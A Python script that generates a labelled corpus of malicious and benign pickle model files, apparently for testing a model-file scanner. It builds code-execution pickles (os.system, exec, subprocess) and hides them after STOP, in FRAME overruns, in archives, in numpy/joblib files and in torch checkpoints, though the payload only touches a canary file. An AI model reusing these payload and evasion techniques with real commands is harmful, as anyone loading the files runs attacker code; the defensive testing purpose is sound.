"""Generate aibom's labelled pickle corpus (test/corpus/pickles).

Every sample is made here, by this script: crafted opcode streams for the attacks, and the real
libraries (Debian's python3-torch, -numpy, -joblib, -sklearn, -dill) for the benign shapes
projects ship. Nothing is labelled by its name: each sample is then loaded for real, in a
throwaway process (load.py) with AIBOM_CANARY pointing at a file that must not exist; the
malicious payloads create that file. A sample whose canary fired is `malicious`; one that
loaded without firing it is `benign`. A sample meant as an attack that did not fire, or meant
benign that did not load, stops the generator: the corpus only holds what was verified.

usage: python3 scripts/pickle-corpus/generate.py [OUT_DIR]   (default test/corpus/pickles)
Writes OUT_DIR/<class>/<sample> and OUT_DIR/labels.json.
"""
import argparse
import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import shutil
import struct
import subprocess
import sys
import tarfile
import tempfile
import zipfile
import zlib
import __main__

HERE = os.path.dirname(os.path.abspath(__file__))
CMD = 'touch "$AIBOM_CANARY"'
CODE = "open(__import__('os').environ['AIBOM_CANARY'], 'w').close()"

# ----------------------------------------------------------------- a tiny pickle assembler


def s_(text, proto=4):
    b = text.encode()
    if proto >= 4 and len(b) < 256:
        return b'\x8c' + bytes([len(b)]) + b
    return b'X' + struct.pack('<I', len(b)) + b


def glob_(module, name):
    return b'c' + module.encode() + b'\n' + name.encode() + b'\n'


def sglob(module, name):
    return s_(module) + s_(name) + b'\x93'


def call1(callee, arg):
    """callee(arg) by REDUCE."""
    return callee + arg + b'\x85R'


def frame(body):
    return b'\x95' + struct.pack('<Q', len(body)) + body


PAYLOADS = {
    # name: (opcodes that call the payload, leaving its result on the stack)
    'os.system': lambda: call1(glob_('os', 'system'), s_(CMD)),
    'posix.system': lambda: call1(sglob('posix', 'system'), s_(CMD)),
    'builtins.exec': lambda: call1(glob_('builtins', 'exec'), s_(CODE)),
    'builtins.eval': lambda: call1(sglob('builtins', 'eval'), s_(CODE)),
    'subprocess.call': lambda: glob_('subprocess', 'call') + b'(' + s_('sh') + s_('-c') + s_(CMD) + b'l\x85R',
    'timeit.timeit': lambda: call1(glob_('timeit', 'timeit'), s_(CODE)),
    'pydoc.pipepager': lambda: glob_('pydoc', 'pipepager') + s_('x') + s_(CMD) + b'\x86R',
    'getattr-chain': lambda: glob_('builtins', 'getattr') + glob_('builtins', '__import__') + s_('os') + b'\x85R' + s_('system') + b'\x86R' + s_(CMD) + b'\x85R',
    'memo-stack-global': lambda: s_('builtins') + b'\x94' + s_('exec') + b'\x94' + b'\x93' + s_(CODE) + b'\x85R',
}


def evil_pickle(payload='os.system', proto=4, wrap_in_dict=False):
    body = PAYLOADS[payload]()
    if proto >= 2:
        head = b'\x80' + bytes([proto])
    else:
        head = b''
    if wrap_in_dict:
        body = b'}' + s_('weights') + body + b's'
    out = head + body + b'.'
    return out


def proto0_evil():
    return b"cos\nsystem\n(S'" + CMD.replace("'", "\\'").encode() + b"'\ntR."


# ----------------------------------------------------------------- samples

SAMPLES = []  # (class, filename, loader, intended, bytes or writer)


def add(cls, name, loader, intended, data=None, writer=None):
    SAMPLES.append({'class': cls, 'file': f'{cls}/{name}', 'loader': loader, 'intended': intended, 'data': data, 'writer': writer})


class Evil:
    def __init__(self, how='system'):
        self.how = how

    def __reduce__(self):
        if self.how == 'exec':
            return (exec, (CODE,))
        return (os.system, (CMD,))


def malicious():
    # 1. raw pickles, every protocol
    for proto in (2, 3, 4, 5):
        for p in ('os.system', 'builtins.exec', 'subprocess.call', 'getattr-chain', 'memo-stack-global', 'timeit.timeit', 'pydoc.pipepager'):
            add('raw-pickle', f'p{proto}-{p}.pkl', 'pickle-all', 'malicious', evil_pickle(p, proto))
    add('raw-pickle', 'p0-os-system.pkl', 'pickle-all', 'malicious', proto0_evil())
    add('raw-pickle', 'p1-eval.pkl', 'pickle-all', 'malicious', evil_pickle('builtins.eval', 1))
    add('raw-pickle', 'pickle-module-dump.pkl', 'pickle-all', 'malicious', pickle.dumps({'model': Evil()}, protocol=4))

    # 2. a second pickle after STOP, opening with all sorts of first bytes
    benign = pickle.dumps({'a': 1}, protocol=2)
    seconds = {
        'proto4': evil_pickle('os.system', 4),
        'proto1-global': proto0_evil(),
        'int-first': b'I1\n0' + PAYLOADS['os.system']() + b'.',
        'binunicode-first': s_('x') + b'0' + PAYLOADS['builtins.exec']() + b'.',
        'frame-first': frame(PAYLOADS['os.system']() + b'.'),
        'mark-first': b'(' + b'1' + PAYLOADS['posix.system']() + b'.',
        'none-first': b'N0' + PAYLOADS['os.system']() + b'.',
    }
    for k, v in seconds.items():
        add('second-pickle', f'after-stop-{k}.pkl', 'pickle-all', 'malicious', benign + v)
    add('second-pickle', 'third-of-three.pkl', 'pickle-all', 'malicious', benign + pickle.dumps([1, 2], protocol=3) + evil_pickle('builtins.exec', 2))

    # 3. FRAME overrun: an argument runs past its frame. The C unpickler reading a file without
    # peek() (io.BytesIO: how torch reads a zip checkpoint's data.pkl) takes the argument from
    # after the frame; the frame's remaining bytes are never read. A linear reader sees garbage.
    for i, p in enumerate(('os.system', 'builtins.exec', 'posix.system')):
        payload = PAYLOADS[p]() + b'.'
        decoy = b'N' * 3
        for op, name in ((b'\x8a', 'long1'),):
            if name == 'binstring' and any(c > 127 for c in payload):
                continue
            inner = op + bytes([len(payload)]) + decoy  # the frame ends after the decoy
            data = b'\x80\x04' + frame(inner) + payload + b'0' + payload
            add('frame-overrun', f'overrun-{i}-{name}-{p}.pkl', 'pickle-bytesio', 'malicious', data)
        # a line (protocol 0 GLOBAL) that does not end within its frame
        inner = b'c' + b'xx'  # the frame ends inside the GLOBAL's module line: it is read afresh after the frame
        data = b'\x80\x04' + frame(inner) + b'os\nsystem\n' + s_(CMD) + b'\x85R.'
        add('frame-overrun', f'overrun-{i}-line.pkl', 'pickle-bytesio', 'malicious', data) if i == 0 else None

    # 4. .bin files a pickle reader accepts, whatever their first bytes (torch.load on a non-zip)
    for k in ('int-first', 'binunicode-first', 'none-first', 'mark-first'):
        add('bin-any-start', f'{k}.bin', 'torch', 'malicious', seconds[k].replace(b'0', b'0', 1) if False else seconds[k])
    add('bin-any-start', 'proto2.bin', 'torch', 'malicious', evil_pickle('os.system', 2))

    # 5. zips of pickles
    def zipped(members, compression=zipfile.ZIP_DEFLATED):
        b = io.BytesIO()
        with zipfile.ZipFile(b, 'w', compression) as z:
            for n, d in members.items():
                z.writestr(n, d)
        return b.getvalue()

    add('zip-archive', 'pickles.zip', 'zip-members', 'malicious', zipped({'model.pkl': evil_pickle('os.system', 4)}))
    add('zip-archive', 'weights-noext.zip', 'zip-members', 'malicious', zipped({'weights': evil_pickle('builtins.exec', 2)}))
    add('zip-archive', 'stored.zip', 'zip-members', 'malicious', zipped({'a/b/state.bin': evil_pickle('subprocess.call', 3)}, zipfile.ZIP_STORED))
    add('zip-archive', 'nested.zip', 'zip-members', 'malicious', zipped({'inner.zip': zipped({'x.pkl': evil_pickle('os.system', 4)})}) if False else zipped({'x.pkl': evil_pickle('posix.system', 4), 'y.txt': b'hi'}))

    # 7. compression wrappers
    for p, comp, ext in (('os.system', gzip.compress, 'pkl.gz'), ('builtins.exec', bz2.compress, 'pkl.bz2'), ('os.system', lzma.compress, 'pkl.xz'),
                         ('posix.system', lambda d: lzma.compress(d, format=lzma.FORMAT_ALONE), 'pkl.lzma'), ('builtins.exec', zlib.compress, 'pkl.z')):
        loader = {'gz': 'gzip', 'bz2': 'bz2', 'xz': 'xz', 'lzma': 'lzma', 'z': 'zlib'}[ext.split('.')[-1]]
        add('compressed', f'model.{ext}', loader, 'malicious', comp(evil_pickle(p, 4)))
    add('compressed', 'data.gz', 'gzip', 'malicious', gzip.compress(evil_pickle('os.system', 2)))

    # 8. numpy object arrays
    def npy_object(pickle_bytes):
        header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
        header += ' ' * (64 - (10 + len(header) + 1) % 64) + '\n'
        return b'\x93NUMPY\x01\x00' + struct.pack('<H', len(header)) + header.encode() + pickle_bytes

    add('numpy-object', 'objects.npy', 'numpy', 'malicious', npy_object(evil_pickle('os.system', 3)))
    add('numpy-object', 'objects-exec.npy', 'numpy', 'malicious', npy_object(evil_pickle('builtins.exec', 2)))
    add('numpy-object', 'arrays.npz', 'numpy', 'malicious', zipped({'arr_0.npy': npy_object(evil_pickle('os.system', 3))}))

    # 9. pickles under other names
    add('named', 'model.sav', 'pickle-all', 'malicious', evil_pickle('os.system', 4))
    add('named', 'model.dat', 'pickle-all', 'malicious', evil_pickle('builtins.exec', 4))
    add('named', 'model.p', 'pickle-all', 'malicious', evil_pickle('posix.system', 2))
    add('named', 'model.pickle', 'pickle-all', 'malicious', evil_pickle('os.system', 5))

    def dill_evil(path):
        import dill
        with open(path, 'wb') as f:
            dill.dump({'model': Evil()}, f)

    add('named', 'model.dill', 'dill', 'malicious', writer=dill_evil)

    import torch

    def torch_evil(legacy, how='system'):
        def w(path):
            torch.save({'state': torch.zeros(2), 'cfg': Evil(how)}, path, _use_new_zipfile_serialization=not legacy)
        return w

    add('named', 'checkpoint.pth.tar', 'torch', 'malicious', writer=torch_evil(False))
    add('torch-zip', 'evil.pt', 'torch', 'malicious', writer=torch_evil(False))
    add('torch-zip', 'pytorch_model.bin', 'torch', 'malicious', writer=torch_evil(False, 'exec'))
    add('torch-legacy', 'evil-legacy.pt', 'torch', 'malicious', writer=torch_evil(True))
    add('torch-legacy', 'evil-legacy.bin', 'torch', 'malicious', writer=torch_evil(True, 'exec'))

    # 10. joblib: a payload after raw array bytes, compressed or not
    import joblib
    import numpy as np

    def joblib_evil(compress):
        def w(path):
            joblib.dump({'coef': np.arange(40, dtype=np.float64).reshape(5, 8), 'ids': np.arange(7, dtype=np.int32), 'hook': Evil()}, path, compress=compress)
        return w

    for c, n in ((0, 'model.joblib'), (3, 'model-zlib.joblib'), (('gzip', 3), 'model-gzip.joblib'), (('bz2', 3), 'model-bz2.joblib'), (('xz', 3), 'model-xz.joblib'), (('lzma', 3), 'model-lzma.joblib')):
        add('joblib', n, 'joblib', 'malicious', writer=joblib_evil(c))

    # 11. tar archives of pickles
    def tarred(members, mode='w'):
        b = io.BytesIO()
        with tarfile.open(fileobj=b, mode=mode) as t:
            for n, d in members.items():
                info = tarfile.TarInfo(n)
                info.size = len(d)
                t.addfile(info, io.BytesIO(d))
        return b.getvalue()

    add('tar-archive', 'pickles.tar', 'tar-members', 'malicious', tarred({'model/weights.pkl': evil_pickle('os.system', 4)}))
    add('tar-archive', 'pickles.tar.gz', 'tar-members', 'malicious', tarred({'state': evil_pickle('builtins.exec', 2)}, 'w:gz'))

    # 6. 7z archives (when p7zip is installed)
    if shutil.which('7z'):
        def seven(members):
            def w(path):
                with tempfile.TemporaryDirectory() as d:
                    for n, data in members.items():
                        with open(os.path.join(d, n), 'wb') as f:
                            f.write(data)
                    subprocess.run(['7z', 'a', '-bd', path, *members.keys()], cwd=d, check=True, stdout=subprocess.DEVNULL)
            return w
        add('7z-archive', 'pickles.7z', '7z-members', 'malicious', writer=seven({'model.pkl': evil_pickle('os.system', 4)}))
        add('7z-archive', 'weights.7z', '7z-members', 'malicious', writer=seven({'weights': evil_pickle('builtins.exec', 2)}))


class Config:
    pass


class Point:
    def __init__(self, x=0, y=0):
        self.x, self.y = x, y


def benign():
    import argparse
    import collections
    import datetime
    import decimal
    import fractions
    import uuid
    import __future__
    import numpy as np
    import torch
    import joblib
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler
    from sklearn.tree import DecisionTreeClassifier

    torch.manual_seed(0)
    net = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 2))

    # Hugging Face style torch checkpoints: zip and legacy
    def tsave(obj, legacy=False):
        return lambda p: torch.save(obj, p, _use_new_zipfile_serialization=not legacy)

    add('hf-torch', 'pytorch_model.bin', 'torch', 'benign', writer=tsave(net.state_dict()))
    add('hf-torch', 'legacy_model.bin', 'torch', 'benign', writer=tsave(net.state_dict(), True))
    add('hf-torch', 'model.pt', 'torch', 'benign', writer=tsave(net.state_dict()))
    add('hf-torch', 'model-legacy.pth', 'torch', 'benign', writer=tsave(net.state_dict(), True))
    add('hf-torch', 'half.bin', 'torch', 'benign', writer=tsave({k: v.half() for k, v in net.state_dict().items()}))
    ns = argparse.Namespace(lr=0.1, epochs=3)
    add('hf-torch', 'training_args.bin', 'torch', 'benign', writer=tsave({'args': ns, 'epoch': 3, 'state_dict': net.state_dict()}))
    add('hf-torch', 'checkpoint.pth.tar', 'torch', 'benign', writer=tsave({'state_dict': net.state_dict(), 'optimizer': torch.optim.SGD(net.parameters(), lr=0.1).state_dict(), 'epoch': 1}))
    add('hf-torch', 'full-module.pt', 'torch', 'benign', writer=tsave(net))
    add('hf-torch', 'full-module-legacy.pt', 'torch', 'benign', writer=tsave(net, True))

    def trailing(p):
        torch.save(net.state_dict(), p)
        with open(p, 'ab') as f:
            f.write(b'\x00' * 100 + b'trailing bytes')
    add('zip-trailing', 'trailing.pt', 'torch', 'benign', writer=trailing)

    # TorchScript (debug records name this generator's path on the machine: left out)
    def without_debug(save):
        def w(p):
            save(p + '.tmp')
            with zipfile.ZipFile(p + '.tmp') as src, zipfile.ZipFile(p, 'w', zipfile.ZIP_STORED) as dst:
                for info in src.infolist():
                    if not info.filename.endswith('.debug_pkl'):
                        dst.writestr(info, src.read(info.filename))
            os.remove(p + '.tmp')
        return w

    def script(p):
        torch.jit.save(torch.jit.script(net), p)

    def trace(p):
        torch.jit.save(torch.jit.trace(net, torch.zeros(1, 4)), p)
    add('torchscript', 'scripted.pt', 'torchscript', 'benign', writer=without_debug(script))
    add('torchscript', 'traced.pt', 'torchscript', 'benign', writer=without_debug(trace))

    class Small(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.lin = torch.nn.Linear(2, 2)
            self.register_buffer('scale', torch.ones(2))

        def forward(self, x):
            return self.lin(x) * self.scale
    add('torchscript', 'module.pt', 'torchscript', 'benign', writer=without_debug(lambda p: torch.jit.save(torch.jit.script(Small()), p)))

    # scikit-learn and joblib
    X = np.random.RandomState(0).rand(30, 4)
    y = (X[:, 0] > 0.5).astype(int)
    models = {
        'logreg': LogisticRegression().fit(X, y),
        'forest': RandomForestClassifier(n_estimators=3, random_state=0).fit(X, y),
        'pipeline': make_pipeline(StandardScaler(), DecisionTreeClassifier(random_state=0)).fit(X, y),
    }
    for name, m in models.items():
        add('sklearn-joblib', f'{name}.joblib', 'joblib', 'benign', writer=(lambda m: lambda p: joblib.dump(m, p))(m))
        add('sklearn-joblib', f'{name}.pkl', 'pickle-all', 'benign', pickle.dumps(m, protocol=4))
    for c, n in ((3, 'logreg-zlib.joblib'), (('gzip', 3), 'forest-gzip.joblib'), (('bz2', 3), 'logreg-bz2.joblib'), (('xz', 3), 'logreg-xz.joblib'), (('lzma', 3), 'pipeline-lzma.joblib')):
        key = n.split('-')[0]
        add('sklearn-joblib', n, 'joblib', 'benign', writer=(lambda m, c: lambda p: joblib.dump(m, p, compress=c))(models[key], c))
    add('sklearn-joblib', 'arrays.joblib', 'joblib', 'benign', writer=lambda p: joblib.dump({'a': np.ones((3, 3)), 'b': np.array(['x', 'yy']), 'c': np.array([{'k': 1}, None], dtype=object), 'd': np.zeros(0, dtype='<M8[ns]')}, p))
    add('sklearn-joblib', 'arrays.pkl.gz', 'gzip', 'benign', gzip.compress(pickle.dumps(models['logreg'], protocol=2)))

    # numpy
    def npsave(arr):
        def w(p):
            with open(p, 'wb') as f:
                np.save(f, arr, allow_pickle=True)
        return w
    add('numpy', 'floats.npy', 'numpy', 'benign', writer=npsave(np.arange(12.0).reshape(3, 4)))
    add('numpy', 'objects.npy', 'numpy', 'benign', writer=npsave(np.array([{'a': 1}, [1, 2], 'x'], dtype=object)))
    add('numpy', 'arrays.npz', 'numpy', 'benign', writer=lambda p: np.savez(open(p, 'wb'), a=np.ones(3), b=np.arange(4)))
    add('numpy', 'compressed.npz', 'numpy', 'benign', writer=lambda p: np.savez_compressed(open(p, 'wb'), a=np.ones(30)))
    for proto in (0, 2, 4, 5):
        add('numpy', f'arrays-p{proto}.pkl', 'pickle-all', 'benign', pickle.dumps({'w': np.ones((2, 2), dtype=np.float32), 'i': np.int64(3), 'f': np.float64(1.5)}, protocol=proto))

    # plain pickles of configs and checkpoints, with the harmless imports real files carry
    __main__.Config = Config
    __main__.Point = Point
    Config.__module__ = '__main__'
    Point.__module__ = '__main__'
    cfg = Config()
    cfg.lr = 0.1
    cfg.when = datetime.datetime(2024, 1, 2, 3, 4, 5)
    obj = {
        'cfg': cfg,
        'pt': Point(1, 2),
        'args': argparse.Namespace(batch=8, name='run'),
        'when': datetime.date(2024, 5, 1),
        'delta': datetime.timedelta(seconds=5),
        'counts': collections.Counter('hello'),
        'ordered': collections.OrderedDict(a=1),
        'dd': collections.defaultdict(list),
        'dec': decimal.Decimal('1.5'),
        'frac': fractions.Fraction(1, 3),
        'id': uuid.UUID(int=5),
        'len': len,
        'feature': __future__.annotations,
        'set': {1, 2},
        'frozen': frozenset({3}),
        'cplx': 1 + 2j,
        'bytes': b'\x00\x01',
    }
    for proto in (0, 1, 2, 3, 4, 5):
        add('plain-pickles', f'config-p{proto}.pkl', 'pickle-all', 'benign', pickle.dumps(obj, protocol=proto))
    add('plain-pickles', 'config.pkl.gz', 'gzip', 'benign', gzip.compress(pickle.dumps(obj, protocol=4)))
    add('plain-pickles', 'two-pickles.pkl', 'pickle-all', 'benign', pickle.dumps({'a': 1}, protocol=4) + pickle.dumps([cfg], protocol=2))
    add('plain-pickles', 'framed-big.pkl', 'pickle-file', 'benign', pickle.dumps({'blob': b'x' * 200000, 'names': ['a' * 70000, 'b']}, protocol=5))

    def dill_benign(path):
        import dill
        with open(path, 'wb') as f:
            dill.dump({'weights': [1.0, 2.0], 'cfg': argparse.Namespace(a=1)}, f)
    add('plain-pickles', 'state.dill', 'dill', 'benign', writer=dill_benign)

    # not pickles at all, named like models
    png = b'\x89PNG\r\n\x1a\n' + b'\x00\x00\x00\rIHDR' + b'\x00' * 17
    add('not-a-pickle', 'image.pt', 'none', 'benign', png)
    add('not-a-pickle', 'notes.pkl', 'none', 'benign', b'hello, these are notes\n')
    add('not-a-pickle', 'random.bin', 'none', 'benign', bytes((i * 97 + 13) % 256 for i in range(4096)))


def canary_load(loader, path):
    """Load `path` in a throwaway process; return (fired, loaded_ok, stderr)."""
    if loader == 'none':
        return False, True, ''
    with tempfile.TemporaryDirectory() as d:
        canary = os.path.join(d, 'canary')
        env = dict(os.environ, AIBOM_CANARY=canary, PYTHONDONTWRITEBYTECODE='1')
        r = subprocess.run([sys.executable, os.path.join(HERE, 'load.py'), loader, path], env=env, capture_output=True, text=True, timeout=300, cwd=d)
        return os.path.exists(canary), r.returncode == 0, r.stderr.strip()[-300:]


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument('out', nargs='?', default=os.path.join(HERE, '..', '..', 'test', 'corpus', 'pickles'))
    args = ap.parse_args()
    out = os.path.abspath(args.out)
    if os.path.isdir(out):
        shutil.rmtree(out)
    malicious()
    benign()
    labels = []
    bad = []
    for s in SAMPLES:
        path = os.path.join(out, s['file'])
        os.makedirs(os.path.dirname(path), exist_ok=True)
        if s['writer']:
            s['writer'](path)
        else:
            with open(path, 'wb') as f:
                f.write(s['data'])
        fired, ok, err = canary_load(s['loader'], path)
        label = 'malicious' if fired else 'benign'
        if label != s['intended'] or (label == 'benign' and not ok):
            bad.append(f"{s['file']}: meant {s['intended']}, loading {'fired the canary' if fired else 'did not fire it'}{'' if ok else f' and failed: {err}'}")
        labels.append({'file': s['file'], 'class': s['class'], 'label': label, 'loader': s['loader']})
    with open(os.path.join(out, 'labels.json'), 'w') as f:
        json.dump({'generator': 'scripts/pickle-corpus/generate.py', 'samples': labels}, f, indent=1)
        f.write('\n')
    if bad:
        print('\n'.join(bad), file=sys.stderr)
        sys.exit(1)
    print(f'{len(labels)} samples in {out}')


if __name__ == '__main__':
    main()
